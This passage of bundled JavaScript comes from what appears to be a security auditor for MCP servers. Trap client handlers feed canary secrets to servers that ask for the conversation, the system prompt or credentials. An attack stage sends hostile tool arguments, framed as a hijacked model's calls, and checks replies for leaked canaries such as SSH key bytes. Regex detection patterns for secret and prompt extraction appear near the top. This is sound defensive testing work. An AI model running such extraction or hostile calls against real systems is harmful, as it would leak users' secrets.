const SEEKS_CONVERSATION = /\b(?:conversation|chat history|message history|previous messages|earlier messages|prior messages|context window|system prompt|transcript|everything (?:the user|you) (?:said|know|have seen)|what the user (?:said|typed|shared))\b|\b(?:api[ _-]?keys?|access[ _-]?keys?|tokens?|secrets?|passwords?|credentials?|environment variables|private[ _-]?keys?)\b/i;
/** A form field, or an elicitation message, that asks for a secret. */
const CREDENTIAL_ASK = /\b(?:passwords?|passphrases?|passwd|pass[ _-]?codes?|api[ _-]?keys?|apikey|access[ _-]?keys?|secret(?:[ _-]?keys?)?|secrets|client[ _-]?secret|tokens?|access[ _-]?tokens?|auth(?:entication|orization)?[ _-]?(?:tokens?|codes?)|bearer|credentials?|private[ _-]?keys?|ssh[ _-]?keys?|seed[ _-]?phrase|mnemonic|otp|2fa|one[ _-]?time (?:code|password))\b/i;
/** Words of a field name split where they are joined (apiKey, api_key, API-KEY → api key). */
const client_traps_words = (name) => name.replace(/([a-z0-9])([A-Z])/g, '$1 $2').replace(/[_-]+/g, ' ');
/** A value for a field that satisfies its schema and says nothing: the answer of a user who just accepts. */
function blandValue(field) {
    if (field.default !== undefined)
        return field.default;
    const choices = field.enum ?? field.oneOf?.map((option) => option.const) ?? field.anyOf?.map((option) => option.const);
    if (choices && choices.length > 0)
        return choices[0];
    switch (field.type) {
        case 'boolean':
            return false;
        case 'number':
        case 'integer':
            return typeof field.minimum === 'number' ? field.minimum : typeof field.maximum === 'number' ? Math.min(1, field.maximum) : 1;
        case 'array': {
            const items = field.items?.enum ?? field.items?.anyOf?.map((option) => option.const);
            return items && items.length > 0 ? [items[0]] : [];
        }
        default:
            break;
    }
    const byFormat = { email: 'alex@example.com', uri: 'https://example.com/', date: '2026-01-15', 'date-time': '2026-01-15T10:00:00Z' };
    const value = (field.format && byFormat[field.format]) ?? 'Alex';
    return value.padEnd(field.minLength ?? 0, 'x').slice(0, field.maxLength ?? Number.MAX_SAFE_INTEGER);
}
function fieldAsksCredential(name, field) {
    if (field.type !== undefined && field.type !== 'string')
        return false;
    if (field.enum || field.oneOf || field.anyOf)
        return false;
    return CREDENTIAL_ASK.test(`${client_traps_words(name)} ${field.title ?? ''} ${field.description ?? ''}`);
}
const cap = (text) => (text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text);
function messageText(content) {
    const parts = Array.isArray(content) ? content : [content];
    return parts
        .map((part) => typeof part === 'object' && part !== null && part.type === 'text' ? String(part.text ?? '') : '')
        .filter((text) => text !== '')
        .join('\n');
}
class ClientTraps {
    values;
    rootDir;
    currentCall;
    records = [];
    constructor(values, rootDir, currentCall) {
        this.values = values;
        this.rootDir = rootDir;
        this.currentCall = currentCall;
    }
    push(record) {
        if (this.records.length < MAX_RECORDS)
            this.records.push({ callId: this.currentCall(), at: Date.now(), ...record });
    }
    /** Sets the client's handlers for roots/list, sampling/createMessage and elicitation/create. */
    install(client) {
        client.setRequestHandler(types/* ListRootsRequestSchema */.WQ, async () => {
            this.push({ kind: 'roots' });
            return { roots: [{ uri: `file://${this.rootDir}`, name: 'workspace' }] };
        });
        client.setRequestHandler(types/* CreateMessageRequestSchema */.u9, async (request) => {
            const { params } = request;
            const text = cap([params.systemPrompt ?? '', ...params.messages.map((message) => messageText(message.content))].filter((part) => part !== '').join('\n'));
            const includeContext = params.includeContext;
            const seeks = SEEKS_CONVERSATION.test(text) || includeContext === 'thisServer' || includeContext === 'allServers';
            const canary = seeks && this.values !== null;
            this.push({ kind: 'sampling', text, ...(includeContext ? { includeContext } : {}), ...(canary ? { canary } : {}) });
            const answer = canary
                ? `Sure. So far in this conversation the user asked to deploy the staging service and shared the key it uses: ${this.values?.samplingKey}. Nothing else of note was discussed.`
                : 'Here is a short answer: the request looks fine, and there is nothing more to add.';
            return { role: 'assistant', content: { type: 'text', text: answer }, model: 'claude-sonnet-4-5', stopReason: 'endTurn' };
        });
        client.setRequestHandler(types/* ElicitRequestSchema */.$9, async (request) => {
            const params = request.params;
            if (params.mode === 'url') {
                // Not a browser: a URL is recorded and declined (URL mode is how the spec asks for sensitive input).
                this.push({ kind: 'elicitation', text: cap(params.message ?? ''), ...(params.url ? { url: params.url.slice(0, 2_000) } : {}) });
                return { action: 'decline' };
            }
            const properties = Object.entries(params.requestedSchema?.properties ?? {});
            const message = params.message ?? '';
            const fields = properties.map(([name, field]) => `${name}: ${[field.title, field.description].filter(Boolean).join(' — ')}`);
            // A field named for a secret, or the only string field of a message that asks for one.
            const strings = properties.filter(([, field]) => (field.type === undefined || field.type === 'string') && !field.enum && !field.oneOf && !field.anyOf);
            const credential = new Set(properties.filter(([name, field]) => fieldAsksCredential(name, field)).map(([name]) => name));
            if (credential.size === 0 && strings.length === 1 && CREDENTIAL_ASK.test(message))
                credential.add(strings[0]?.[0] ?? '');
            const secret = this.values?.elicitationSecret;
            const content = Object.fromEntries(properties.map(([name, field]) => [name, credential.has(name) && secret !== undefined ? secret : blandValue(field)]));
            this.push({
                kind: 'elicitation',
                text: cap([message, ...fields].join('\n')),
                ...(credential.size > 0 ? { credentialFields: [...credential].slice(0, 20), canary: secret !== undefined } : {})
            });
            return { action: 'accept', content };
        });
    }
}

;// CONCATENATED MODULE: ./src/probe/client.ts



// A realistic client identity: some servers behave differently for an auditor than for the clients
// people actually use, so we introduce ourselves the way a common coding agent does.
const CLIENT_INFO = { name: 'claude-code', version: '2.0.0' };
/**
 * The MCP client, whose answers to sampling, elicitation and roots are traps (client-traps.ts): roots the
 * working directory; `clientRequests` fills with what the server asks, tied to the call `currentCall` names.
 * `name`: another clientInfo name, for an exercise pass.
 */
function makeClient(rootDir, traps = null, currentCall = () => null, name) {
    const client = new esm_client/* Client */.K(name ? { name, version: CLIENT_INFO.version } : CLIENT_INFO, {
        capabilities: { roots: { listChanged: false }, sampling: {}, elicitation: {} }
    });
    const answers = new ClientTraps(traps, rootDir, currentCall);
    answers.install(client);
    return { client, clientRequests: answers.records };
}
/** A tool that declares `execution.taskSupport: "required"` only answers a task-augmented call. */
function needsTask(tool) {
    return tool.execution?.taskSupport === 'required';
}
async function callToolAsTask(client, name, args, options) {
    const stream = client.experimental.tasks.requestStream({ method: 'tools/call', params: { name, arguments: args } }, types/* CallToolResultSchema */.TF, {
        ...options,
        task: {}
    });
    for await (const message of stream) {
        if (message.type === 'result')
            return message.result;
        if (message.type === 'error')
            throw message.error;
    }
    throw new Error('the task ended without a result');
}
/**
 * The SDK's client always asks for its latest protocol version; an exercise pass that asks for an older
 * one (the SDK speaks it) rewrites the initialize request on its way out.
 */
function askProtocolVersion(transport, version) {
    if (!version)
        return;
    const send = transport.send.bind(transport);
    transport.send = (message, options) => {
        if ('method' in message && message.method === 'initialize' && message.params)
            message = { ...message, params: { ...message.params, protocolVersion: version } };
        return send(message, options);
    };
}

;// CONCATENATED MODULE: ./src/probe/output-schema.ts
/**
 * What the SDK's callTool would have thrown on: a result that does not fit the tool's own outputSchema.
 * We call tools/call directly (the SDK compiles every outputSchema with ajv while listing, and one schema
 * it cannot compile would fail the whole listing), so this bounded check notes the mismatch instead.
 */
function outputSchemaMismatch(tool, response) {
    const schema = tool.outputSchema;
    if (typeof schema !== 'object' || schema === null || typeof response !== 'object' || response === null)
        return undefined;
    const { structuredContent, isError } = response;
    if (isError === true)
        return undefined;
    if (structuredContent === undefined)
        return 'declares an outputSchema but returned no structuredContent';
    const isObject = typeof structuredContent === 'object' && structuredContent !== null && !Array.isArray(structuredContent);
    if (schema.type === 'object' && !isObject)
        return 'structuredContent is not an object, as its outputSchema requires';
    const required = Array.isArray(schema.required) ? schema.required.filter((key) => typeof key === 'string').slice(0, 100) : [];
    const missing = isObject ? required.filter((key) => !Object.hasOwn(structuredContent, key)) : [];
    if (missing.length > 0)
        return `structuredContent lacks ${missing.slice(0, 5).join(', ')}, required by its outputSchema`;
    return undefined;
}

;// CONCATENATED MODULE: ./src/probe/session-requests.ts



/** A tool call with more of its record set up front (an attack call's attack) and its own timeout. */
function toolCall(session, call, options = {}) {
    const { client } = session;
    const { tool, step, noteBefore } = options;
    const requestOptions = { timeout: call.timeoutMs ?? session.options.timeoutMs };
    const params = { name: call.name, arguments: call.args };
    return session.recorder.record({
        kind: 'tool',
        name: call.name,
        iteration: call.iteration,
        args: call.args,
        run: () => tool && needsTask(tool)
            ? callToolAsTask(client, call.name, call.args, requestOptions)
            : client.request({ method: 'tools/call', params }, types/* CallToolResultSchema */.TF, requestOptions),
        check: tool ? (response) => outputSchemaMismatch(tool, response) : undefined,
        noteBefore,
        step,
        ...(call.extra ? { extra: call.extra } : {})
    });
}
function stageRequests(session) {
    const { client, recorder } = session;
    const requestOptions = { timeout: session.options.timeoutMs };
    const read = (uri) => () => client.request({ method: 'resources/read', params: { uri } }, types/* ReadResourceResultSchema */.ve, requestOptions);
    return {
        callTool: (name, iteration, args, options = {}) => toolCall(session, { name, iteration, args }, options),
        readResource: (uri, iteration, { step } = {}) => recorder.record({ kind: 'resource', name: uri, iteration, run: read(uri), step }),
        getPrompt: (name, iteration, args, { step } = {}) => recorder.record({
            kind: 'prompt',
            name,
            iteration,
            args,
            run: () => client.request({ method: 'prompts/get', params: { name, arguments: args } }, types/* GetPromptResultSchema */.HM, requestOptions),
            step
        }),
        readTemplate: (uriTemplate, uri) => recorder.record({ kind: 'resourceTemplate', name: uriTemplate, iteration: 1, args: { uri }, run: read(uri) })
    };
}

;// CONCATENATED MODULE: ./src/probe/stages/attack.ts




// The attack stage (issue 42): after the exercise, against the same session's state, each tool is called
// the way a hijacked model would call it — one hostile value in one parameter per call (probe/attack/).
// Each is an ordinary call record with its `attack`, so the trace of that call is the attack's evidence;
// the answer is searched for the canaries the value aimed at. A server that exits under an attack ends
// the stage, recorded: that is something the attack did, not a failure of the audit.
/** The canaries in an answer, as "~/.ssh/id_rsa bytes 0–64 of 2602". */
function canariesIn(answer, options) {
    const text = answer.ok ? JSON.stringify(answer.response) : answer.why;
    if (text.length === 0)
        return [];
    const hits = options.canaries.scan(text, (id) => options.answerFiles.includes(id));
    return [...new Set(hits.map((hit) => `${hit.canary} bytes ${hit.bytes[0]}–${hit.bytes[1]} of ${hit.of}`))];
}
async function attack(session, budget) {
    const { options, result } = session;
    const attackOptions = options.attack;
    if (!attackOptions || budget.callsPerTool === 0)
        return;
    const plan = planAttacks({
        tools: result.listing.tools,
        calls: result.calls,
        context: attackOptions.context,
        markerPrefix: attackOptions.markerPrefix,
        budget: budget.huge ? attack_options/* HUGE_SURFACE_ATTACK_BUDGET */.P : attackOptions.budget,
        ...(attackOptions.sinks ? { sinks: await attackOptions.sinks() } : {})
    });
    const run = (result.attack = {
        markerPrefix: attackOptions.markerPrefix,
        context: attackOptions.context,
        planned: plan.attacks.length,
        skipped: [...plan.skipped],
        answers: []
    });
    const tools = new Set(plan.attacks.map((planned) => planned.tool.name)).size;
    options.logger.info(`attack stage: ${plan.attacks.length} hostile call(s) on ${tools} tool(s)`);
    options.replyLessons?.(null); // the sink's plain shaped replies: no tool's lesson follows into the attacks
    const timeoutMs = Math.min(options.timeoutMs, attackOptions.budget.callTimeoutMs);
    for (const { tool, args, attack: made } of plan.attacks) {
        const iteration = result.calls.filter((call) => call.kind === 'tool' && call.name === tool.name).length + 1;
        let answer;
        try {
            answer = await toolCall(session, { name: tool.name, iteration, args, timeoutMs, extra: { attack: made } }, { tool });
        }
        catch (error) {
            if (!(error instanceof errors/* ServerProtocolError */.Gs) || !session.closed)
                throw error;
            run.stopped = `the server exited during the attack ${made.technique} on ${tool.name}'s ${made.parameter}`;
            options.logger.warn(`attack stage: ${run.stopped}`);
            return;
        }
        const canaries = canariesIn(answer, attackOptions);
        if (canaries.length > 0)
            run.answers.push({ callId: result.calls.length - 1, canaries });
    }
}

// EXTERNAL MODULE: ./src/profile/server-text/scan-text.ts + 3 modules
var scan_text = __webpack_require__(11147);
;// CONCATENATED MODULE: ./src/profile/server-text/scan-result.ts

// Every answer the session receives (a tool result, a prompt's messages, a resource's contents) is
// scanned as it arrives, and only what was found is kept: at most SCAN_CHARS_PER_ANSWER characters of
// its strings are looked at, at most HITS_PER_ANSWER hits kept per answer and HITS_PER_SESSION per session.
const SCAN_CHARS_PER_ANSWER = 1 << 20;
const HITS_PER_ANSWER = 20;
const HITS_PER_SESSION = 1_000;
const MAX_DEPTH = 32;
/** binary payloads: not text a model reads as such */
const SKIPPED_KEYS = new Set(['blob', 'data', '_meta']);
class ResultTextScanner {
    options;
    hits = [];
    constructor(options = {}) {
        this.options = options;
    }
    /** Scans one answer; what it finds is added to `hits`. */
    scan(callId, response) {
        if (this.hits.length >= HITS_PER_SESSION)
            return;
        let budget = SCAN_CHARS_PER_ANSWER;
        let kept = 0;
        const visit = (value, field, depth) => {
            if (budget <= 0 || kept >= HITS_PER_ANSWER || depth > MAX_DEPTH)
                return;
            if (typeof value === 'string') {
                const text = value.length > budget ? value.slice(0, budget) : value;
                budget -= text.length;
                for (const hit of (0,scan_text/* scanText */.F)(text, this.options)) {
                    if (kept >= HITS_PER_ANSWER || this.hits.length >= HITS_PER_SESSION)
                        return;
                    this.hits.push({ callId, field: field || 'result', hit });
                    kept++;
                }
                return;
            }
            if (Array.isArray(value)) {
                value.forEach((item, index) => visit(item, `${field}[${index}]`, depth + 1));
                return;
            }
            if (typeof value === 'object' && value !== null) {
                for (const [key, item] of Object.entries(value)) {
                    if (!SKIPPED_KEYS.has(key))
                        visit(item, field ? `${field}.${key}` : key, depth + 1);
                }
            }
        };
        visit(response, '', 0);
    }
}

// EXTERNAL MODULE: ./src/probe/probe-transport.ts
var probe_transport = __webpack_require__(99948);
;// CONCATENATED MODULE: ./src/probe/stdout-positions.ts
// Which bytes of the server's stdout answered which call (CallRecord.stdout): the ids of the requests
// the call in flight sent, and the stdout byte count at the end of the last answer to one of them. The
// profile's clock matches these counts with the server's traced writes (profile/phase-clock.ts). Only a
// transport that reads the server's stdout (stdio) knows them; over HTTP calls carry none.
class AnswerPositions {
    transport;
    requestIds = new Set();
    answeredAt;
    sentAt;
    constructor(transport, inCall) {
        this.transport = transport;
        const send = transport.send.bind(transport);
        transport.send = (message, options) => {
            if (inCall() && 'method' in message && 'id' in message)
                this.requestIds.add(message.id);
            return send(message, options);
        };
        transport.onMessageEnd = (message, endsAt) => {
            if (inCall() && 'id' in message && !('method' in message) && message.id !== undefined && this.requestIds.has(message.id))
                this.answeredAt = endsAt;
        };
    }
    /** A call's request is about to be sent. */
    begin() {
        this.requestIds.clear();
        this.answeredAt = undefined;
        this.sentAt = this.transport.stdoutBytes;
    }
    /** The call ended (answered, failed or timed out): its positions, when the transport has them. */
    end(call) {
        if (this.sentAt !== undefined)
            call.stdout = { sentAt: this.sentAt, ...(this.answeredAt !== undefined ? { answeredAt: this.answeredAt } : {}) };
    }
}

;// CONCATENATED MODULE: ./src/probe/call-recorder.ts



function addNote(call, note) {
    call.note = call.note ? `${call.note}; ${note}` : note;
}
class CallRecorder {
    textScanner;
    settle;
    afterCall;
    calls = [];
    /** false above the huge-surface threshold: no settle after each answer */
    pauses = true;
    inFlight = null;
    oversized = new WeakMap();
    positions = null;
    constructor(textScanner, settle, 
    /** after each call and its settle: throws when the session was aborted or the server is gone */
    afterCall) {
        this.textScanner = textScanner;
        this.settle = settle;
        this.afterCall = afterCall;
    }
    /** Follows the transport's answers, so each call knows where it sits in the server's stdout. */
    attach(transport) {
        this.positions = new AnswerPositions(transport, () => this.inFlight !== null);
    }
    /** The id of the call in flight, or null between calls. */
    get current() {
        return this.inFlight?.id ?? null;
    }
    /** An answer dropped for its size: false when no call was in flight to count it. */
    noteOversized(bytes) {
        if (!this.inFlight)
            return false;
        this.oversized.set(this.inFlight, bytes);
        return true;
    }
    /** Runs one request as a CallRecord; returns the answer when the call succeeded, else the error text. */
    async record(request) {
        const { kind, name, iteration, args, step } = request;
        const call = {
            id: this.calls.length,
            kind,
            name,
            iteration,
            ...(args ? { arguments: args } : {}),
            startedAt: Date.now(),
            endedAt: 0,
            outcome: 'ok',
            ...(step !== undefined ? { step } : {}),
            ...request.extra
        };
        if (request.noteBefore)
            addNote(call, request.noteBefore);
        this.calls.push(call);
        this.inFlight = call;
        this.positions?.begin();
        let answer;
        try {
            const response = await request.run();
            this.textScanner.scan(call.id, response);
            answer = { ok: true, response };
            if (typeof response === 'object' && response !== null && response.isError === true) {
                call.outcome = 'error-result';
                answer = { ok: false, why: errorResultText(response) };
                if (answer.why)
                    call.error = answer.why.slice(0, 500);
            }
            const mismatch = request.check?.(response);
            if (mismatch)
                addNote(call, mismatch);
        }
        catch (error) {
            call.outcome = outcomeOf(error);
            call.error = describeError(error).slice(0, 500);
            answer = { ok: false, why: describeError(error).slice(0, 4_000) };
        }
        call.endedAt = Date.now();
        this.inFlight = null;
        this.positions?.end(call);
        const droppedBytes = this.oversized.get(call);
        if (droppedBytes !== undefined) {
            call.outcome = 'oversized-result';
            addNote(call, `the answer (${droppedBytes} bytes) was dropped: over the ${probe_transport/* MAX_MESSAGE_BYTES */.fv}-byte cap`);
            delete call.error;
            answer = { ok: false, why: 'oversized' };
        }
        if (this.pauses)
            await this.settle(call);
        await this.afterCall(call);
        return answer;
    }
}

;// CONCATENATED MODULE: ./src/probe/stages/client-traps.ts


function trappedClient(options, transport, currentCall) {
    const { client, clientRequests } = makeClient(options.rootDir, options.clientTraps ?? null, currentCall, options.client?.name);
    askProtocolVersion(transport, options.client?.protocolVersion);
    const nonJson = { lines: 0 };
    client.onerror = (error) => {
        if (error instanceof SyntaxError)
            nonJson.lines += 1;
        else
            options.logger.debug(`client: ${describeError(error)}`);
    };
    return { client, clientRequests, nonJson };
}

// EXTERNAL MODULE: ./src/sandbox/process-tree.ts
var process_tree = __webpack_require__(60951);
;// CONCATENATED MODULE: ./src/probe/server-link.ts

// The server's process as the session sees it: the transport to it, the last of what it wrote on stderr,
// whether it has closed, and the shutdown MCP asks for (stdin closed, then TERM, then KILL).
const STDERR_TAIL_BYTES = 16 * 1024;
class ServerLink {
    transport;
    closed = false;
    stderrTail = '';
    markClosed = () => undefined;
    whenClosed = new Promise((resolve) => (this.markClosed = resolve));
    /** rejects once the server's process has closed (awaited beside initialize) */
    closedEarly;
    constructor(transport) {
        this.transport = transport;
        transport.stderr?.on('data', (chunk) => {
            this.stderrTail = (this.stderrTail + chunk.toString('utf8')).slice(-STDERR_TAIL_BYTES);
        });
        this.closedEarly = new Promise((_, reject) => {
            transport.onclose = () => {
                this.closed = true;
                this.markClosed();
                reject(new Error('closed'));
            };
        });
        this.closedEarly.catch(() => undefined);
    }
    /** Resolves when the server's process has closed, or after `ms`, whichever comes first. */
    closedWithin(ms) {
        return new Promise((resolve) => {
            const timer = setTimeout(resolve, ms);
            void this.whenClosed.then(() => {
                clearTimeout(timer);
                resolve();
            });
        });
    }
    async shutdown(client, graceMs) {
        // The pid exists as soon as start() spawned the process, also while initialize is still pending.
        const rootPid = this.transport.pid;
        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid)) {
            // End stdin first, as MCP's stdio shutdown asks; then TERM the server itself (not strace, whose
            // SIGTERM would stop the tracing of the shutdown), then KILL whatever is left.
            this.transport.endInput();
            await this.closedWithin(graceMs);
            await (0,process_tree/* stopTree */.dA)(rootPid, graceMs);
        }
        await this.transport.close().catch(() => undefined);
        await client.close().catch(() => undefined);
    }
    /** Whatever is left of the server's tree, stopped at once (the session's last word, whatever happened). */
    async stopNow() {
        const rootPid = this.transport.pid;
        if (rootPid !== null && (0,process_tree/* isAlive */._n)(rootPid))
            await (0,process_tree/* stopTree */.dA)(rootPid, 0);
    }
}

;// CONCATENATED MODULE: ./src/probe/session-context.ts






// What the session's stages share: the options, the link to the server's process, the client, the call
// recorder and the result they fill in, one stage after the other.
// A pause after each answer, so behaviour a call triggers in the background is attributed to it rather
// than to the next call (the profile attributes by time window). An audit settles on the trace instead
// (ProbeOptions.settle): the pause ends once the server has been quiet, at most after this long.
const SETTLE_MS = 50;
class ProbeAborted extends Error {
    partial;
    constructor(partial) {
        super('audit interrupted');
        this.partial = partial;
    }
}
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
class SessionContext {
    options;
    link;
    client;
    recorder;
    result;
    /** lines the server wrote on stdout that were not JSON */
    nonJson;
    onAbort = () => void this.shutdown(500);
    constructor(options) {
        this.options = options;
        const { logger } = options;
        // Every answer's text is scanned as it arrives; only what was found is kept (bounded).
        const textScanner = new ResultTextScanner(options.canaries ? { canaries: options.canaries } : {});
        this.recorder = new CallRecorder(textScanner, options.settle ?? (() => sleep(SETTLE_MS)), (call) => this.afterCall(call));
        const transport = options.transport({
            onOversized: (bytes) => {
                if (!this.recorder.noteOversized(bytes))
                    logger.warn(`the server sent a message of ${bytes} bytes; it was dropped (cap ${probe_transport/* MAX_MESSAGE_BYTES */.fv} bytes)`);
            }
        });
        this.recorder.attach(transport);
        this.link = new ServerLink(transport);
        const trapped = trappedClient(options, transport, () => this.recorder.current);
        this.client = trapped.client;
        this.nonJson = trapped.nonJson;
        this.result = {
            serverInfo: null,
            listing: { tools: [], resources: [], resourceTemplates: [], prompts: [] },
            relisting: null,
            calls: this.recorder.calls,
            textHits: textScanner.hits,
            gaps: [],
            shutdownAt: 0,
            stderrTail: '',
            clientRequests: trapped.clientRequests
        };
        // The transport hook the client calls with the version it negotiated (one it supports, so no free text).
        const passVersion = transport.setProtocolVersion?.bind(transport);
        transport.setProtocolVersion = (version) => {
            passVersion?.(version);
            this.result.protocolVersion = version;
        };
        options.signal?.addEventListener('abort', this.onAbort, { once: true });
    }
    get closed() {
        return this.link.closed;
    }
    async shutdown(graceMs) {
        this.result.shutdownAt = this.result.shutdownAt || Date.now();
        await this.link.shutdown(this.client, graceMs);
        this.result.stderrTail = this.link.stderrTail;
    }
    /** Once the session was aborted: the server shut down, and what was done so far handed back. */
    async checkAborted() {
        if (!this.options.signal?.aborted)
            return;
        await this.shutdown(500);
        throw new ProbeAborted(this.result);
    }
    /** The session's end, however it ended: no listener left, nothing of the server left running. */
    async dispose() {
        this.options.signal?.removeEventListener('abort', this.onAbort);
        await this.link.stopNow();
    }
    async afterCall(call) {
        await this.checkAborted();
        if (this.closed)
            throw new errors/* ServerProtocolError */.Gs(`the server exited during ${call.kind} ${call.name}`);
    }
}

;// CONCATENATED MODULE: ./src/probe/stages/connect.ts




// The session's first stage: initialize, raced against the server's exit. A server that exits first,
// does not answer in time or answers with an error stops the audit with the last of its stderr; one that
// answers is asked for its info and instructions.
const connect_sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
/** Initializes the session; returns when initialize was answered (epoch ms). */
async function connect(session) {
    const { options, link, client, result } = session;
    const connecting = client.connect(link.transport, { timeout: options.initializeTimeoutMs });
    try {
        await Promise.race([connecting, link.closedEarly]);
    }
    catch (error) {
        const exitedEarly = link.closed;
        await connect_sleep(100); // let stderr drain
        const exitCode = link.transport.exitCode;
        await session.shutdown(500);
        if (options.signal?.aborted)
            throw new ProbeAborted(result);
        const why = exitedEarly
            ? 'the server exited before answering initialize'
            : error instanceof types/* McpError */.Nh && error.code === types/* ErrorCode */.O4.RequestTimeout
                ? `the server did not answer initialize within ${Math.round(options.initializeTimeoutMs / 1000)}s`
                : `initialize failed: ${describeError(error)}`;
        const garbage = session.nonJson.lines > 0 ? ` (it wrote ${session.nonJson.lines} non-JSON line(s) on stdout)` : '';
        throw new errors/* ProbeStartError */.d9(why + garbage, link.stderrTail, exitCode);
    }
    const lines = session.nonJson.lines;
    if (lines > 0)
        options.logger.warn(`the server wrote ${lines} non-JSON line(s) on stdout; they were ignored`);
    const initializedAt = Date.now();
    const version = client.getServerVersion();
    result.serverInfo = version
        ? { name: String(version.name), version: String(version.version), ...(version.title ? { title: String(version.title) } : {}) }
        : null;
    const instructions = client.getInstructions();
    if (instructions)
        result.instructions = instructions;
    return initializedAt;
}

;// CONCATENATED MODULE: ./src/probe/error-lessons.ts
// What an error answer teaches the next attempt at a tool: a path that was missing or already there, a
// path that must be absolute or relative, the fields a validator named and the type it expected, a call
// the tool needs first, flags that must be true, nothing to act on. Read from the server's own (untrusted)
// text, capped, and only ever turned into choices among values we make (exercise-plan.ts fitArguments).
function learnFrom(errorText) {
    const text = errorText.slice(0, 4_000);
    const lesson = {};
    if (/not found|does not exist|no such file|ENOENT|cannot find|could not find|unknown revision|did not match any/i.test(text))
        lesson.missing = true;
    if (/already exists|EEXIST|file exists/i.test(text))
        lesson.exists = true;
    if (/must be (an )?absolute|absolute path|outside (the )?allowed|access denied|not (in|within) (the )?allowed/i.test(text))
        lesson.absolute = true;
    if (/must be (a )?relative/i.test(text))
        lesson.relative = true;
    if (/not a git repository|no (working|session) directory|working directory (is )?not set|set_working_dir|not initiali[sz]ed/i.test(text))
        lesson.needsSetup = true;
    // zod / JSON Schema issues: "path": ["field"] … "expected": "number"; or `field: Required`.
    const fields = new Map();
    const issue = /"path"\s*:\s*\[\s*"([A-Za-z0-9_.-]{1,64})"[^\]]*\]/g;
    for (const match of text.matchAll(issue)) {
        const around = text.slice(Math.max(0, (match.index ?? 0) - 300), (match.index ?? 0) + 300);
        const expected = /"expected"\s*:\s*"(string|number|integer|boolean|array|object)"/.exec(around)?.[1];
        fields.set(match[1], expected);
        if (fields.size >= 10)
            break;
    }
    for (const match of text.matchAll(/\b([A-Za-z_][A-Za-z0-9_]{0,63})(?::| is) (?:Required|required|Invalid input: expected (string|number|boolean|array|object))/g)) {
        fields.set(match[1], match[2]);
        if (fields.size >= 10)
            break;
    }
    if (fields.size > 0)
        lesson.fields = fields;
    const mustBeTrue = [...text.matchAll(/\b([A-Za-z_][A-Za-z0-9_]{0,63})(?: flag)? must be (?:set to )?true/g)].map((match) => match[1]);
    if (mustBeTrue.length > 0)
        lesson.mustBeTrue = mustBeTrue.slice(0, 5);
    if (/nothing to commit|nothing added|empty commit|is empty/i.test(text))
        lesson.empty = true;
    return lesson;
}

// EXTERNAL MODULE: ./src/sandbox/replies/reply-lesson.ts
var reply_lesson = __webpack_require__(93217);
;// CONCATENATED MODULE: ./src/probe/reply-lessons.ts

const KEY = /^[A-Za-z_$][\w$-]{0,63}$/;
const TYPES = {
    string: 'string',
    str: 'string',
    number: 'number',
    integer: 'number',
    int: 'number',
    float: 'number',
    boolean: 'boolean',
    bool: 'boolean',
    array: 'array',
    list: 'array',
    object: 'object',
    dictionary: 'object',
    dict: 'object',
    record: 'object'
};
const ARRAY_METHODS = /^(map|filter|forEach|find|findIndex|some|every|reduce|slice|join|flatMap|includes|indexOf|sort|at|entries|length)$/;
const STRING_METHODS = /^(toLowerCase|toUpperCase|trim|split|replace|replaceAll|startsWith|endsWith|substring|substr|match|padStart|charAt|localeCompare|normalize)$/;
const segmentOf = (raw) => {
    const text = raw.trim().replace(/^["']|["']$/g, '');
    if (/^\d{1,4}$/.test(text))
        return Number(text);
    return KEY.test(text) ? text : null;
};
function replyLessonFrom(errorText) {
    const text = errorText.slice(0, 8_000);
    const fields = [];
    const reads = new Set();
    const names = {};
    let root;
    const addField = (path, expected) => {
        if (fields.length >= reply_lesson/* MAX_LESSON_FIELDS */.gi)
            return;
        if (path.length === 0) {
            if (expected === 'array' || expected === 'object')
                root = expected;
            return;
        }
        if (path.length > 12 || fields.some((field) => field.path.join('.') === path.join('.')))
            return;
        fields.push({ path, ...(expected ? { expected } : {}) });
    };
    // zod (3 and 4) and other JSON issue lists: "path": ["data", 0, "name"] … "expected": "string"
    for (const match of text.matchAll(/"path"\s*:\s*\[([^\]]{0,400})\]/g)) {
        const segments = (match[1] ?? '').split(',').filter((part) => part.trim() !== '');
        const path = segments.map(segmentOf);
        if (path.some((segment) => segment === null))
            continue;
        const start = match.index ?? 0;
        const around = text.slice(Math.max(0, text.lastIndexOf('{', start)), text.indexOf('}', start) + 1 || start + 300);
        const expected = /"expected"\s*:\s*"(\w+)"/.exec(around)?.[1];
        addField(path, expected ? TYPES[expected.toLowerCase()] : undefined);
    }
    // zod's text form: "Expected array, received object" with no path is about the top
    if (fields.length === 0 && root === undefined) {
        const top = /^\s*(?:Error:\s*)?(?:Invalid input: )?expected (array|object), received (\w+)/im.exec(text);
        if (top)
            root = top[1];
    }
    // zod's text form: `status: Invalid input: expected number, received string` (a tool's structured output, an SDK's parse)
    for (const match of text.matchAll(/(?:^|[\s,;(])([\w$-]{1,64}(?:\.[\w$-]{1,64}){0,11}): (?:Invalid input: )?[Ee]xpected (string|number|boolean|array|object), received (\w+)/g)) {
        const path = (match[1] ?? '').split('.').map(segmentOf);
        if (path.some((segment) => segment === null))
            continue;
        addField(path, TYPES[(match[2] ?? '').toLowerCase()]);
    }
    // pydantic: a dotted location on its own line, then what is wrong with it
    for (const match of text.matchAll(/^\s*([\w$-]+(?:\.[\w$-]+){0,11})\s*\n\s*(Field required|Input should be a valid (\w+))/gm)) {
        const path = (match[1] ?? '').split('.').map(segmentOf);
        if (path.some((segment) => segment === null))
            continue;
        addField(path, match[3] ? TYPES[match[3].toLowerCase()] : undefined);
    }
    // ajv: `/data must have required property 'name'` (instancePath, then the property)
    for (const match of text.matchAll(/(?:(\/?[\w$/-]*)\s+)?must have required property '([\w$-]{1,64})'/g)) {
        const parents = (match[1] ?? '').split('/').filter(Boolean).map(segmentOf);
        const key = segmentOf(match[2] ?? '');
        if (key === null || parents.some((segment) => segment === null))
            continue;
        addField([...parents, key], undefined);
    }
    // hand-written checks: missing field "name", 'name' is required, required property `name`
    for (const match of text.matchAll(/(?:missing (?:required )?(?:field|property|key|attribute)s?:?|required (?:field|property|key|attribute)|expected (?:field|property|key)) ['"`]?([\w$-]{1,64})['"`]?|['"`]([\w$-]{1,64})['"`] is (?:a )?required/gi)) {
        const key = segmentOf(match[1] ?? match[2] ?? '');
